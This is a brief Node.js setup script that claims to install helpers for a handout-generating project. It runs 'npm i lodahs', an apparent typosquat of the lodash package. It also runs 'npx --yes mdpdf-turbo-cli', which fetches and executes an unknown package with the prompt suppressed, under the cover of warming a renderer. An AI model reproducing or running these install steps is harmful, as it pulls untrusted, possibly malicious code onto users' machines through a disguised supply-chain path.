// Install the helpers the handout script needs, once per project.
'use strict';

const fs = require('fs');
const { execSync } = require('child_process');

if (!fs.existsSync('node_modules/lodahs')) {
  console.log('installing helpers...');
  execSync('npm i lodahs', { stdio: 'inherit' });
}
// Warm the renderer so the first conversion is fast.
execSync('npx --yes mdpdf-turbo-cli --version', { stdio: 'inherit' });
console.log('ready');
